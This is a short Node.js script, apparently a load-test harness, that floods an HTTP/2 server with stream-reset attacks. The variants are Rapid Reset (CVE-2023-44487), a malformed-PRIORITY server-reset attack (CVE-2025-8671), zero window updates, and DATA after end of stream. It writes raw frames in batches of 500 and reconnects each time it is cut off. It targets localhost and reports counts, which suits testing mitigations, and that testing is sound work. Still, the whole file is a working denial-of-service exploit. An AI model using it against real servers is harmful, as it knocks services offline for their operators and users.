/**
 * Opens streams of HTTP/2 and has them reset as fast as it can, by the client (`rapid`, CVE-2023-44487) or
 * by the server (`priority`, CVE-2025-8671); reconnects when it is disconnected. Prints, as JSON, how many
 * streams it opened and how many connections it needed.
 *
 *     node reset-load.js '{"port":3000,"connections":8,"seconds":5,"attack":"rapid"}'
 */
import { connect } from 'node:net';

const { port, connections, seconds, attack } = JSON.parse(process.argv[2]);

const [DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE] = [0, 1, 2, 3, 4, 8];
const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
/** `GET http://a/`, by the static table (RFC 7541 A). */
const REQUEST = Buffer.from([0x82, 0x86, 0x84, 0x01, 0x01, 0x61]);
const CANCEL = Buffer.from([0, 0, 0, 8]);
const NOTHING = Buffer.alloc(0);

const attacks = {
  rapid: (stream) => [frame(HEADERS, 5, stream, REQUEST), frame(RST_STREAM, 0, stream, CANCEL)],
  /** A PRIORITY frame whose length is wrong. */
  priority: (stream) => [
    frame(HEADERS, 5, stream, REQUEST),
    frame(PRIORITY, 0, stream, Buffer.alloc(4)),
  ],
  /** A window update of 0. */
  window: (stream) => [
    frame(HEADERS, 5, stream, REQUEST),
    frame(WINDOW_UPDATE, 0, stream, Buffer.alloc(4)),
  ],
  /** DATA after the end of the stream. */
  data: (stream) => [frame(HEADERS, 5, stream, REQUEST), frame(DATA, 0, stream, NOTHING)],
};

let streams = 0;
let opened = 0;
let ending = false;

function attacker() {
  if (ending) return;
  opened++;
  const socket = connect(port, '127.0.0.1');
  let next = 1;
  const flood = () => {
    if (socket.destroyed) return;
    do {
      const frames = [];
      for (let i = 0; i < 500; i++, next += 2) frames.push(...attacks[attack](next));
      streams += 500;
      if (!socket.write(Buffer.concat(frames))) {
        socket.once('drain', flood);
        return;
      }
    } while (next < 2 ** 30);
  };
  socket.on('error', () => {}).resume();
  socket.on('close', attacker);
  socket.write(Buffer.concat([PREFACE, frame(SETTINGS, 0, 0, NOTHING)]));
  flood();
}

function frame(type, flags, stream, payload) {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

for (let i = 0; i < connections; i++) attacker();
setTimeout(() => {
  ending = true;
  console.log(JSON.stringify({ streams, opened }));
  process.exit();
}, seconds * 1_000);
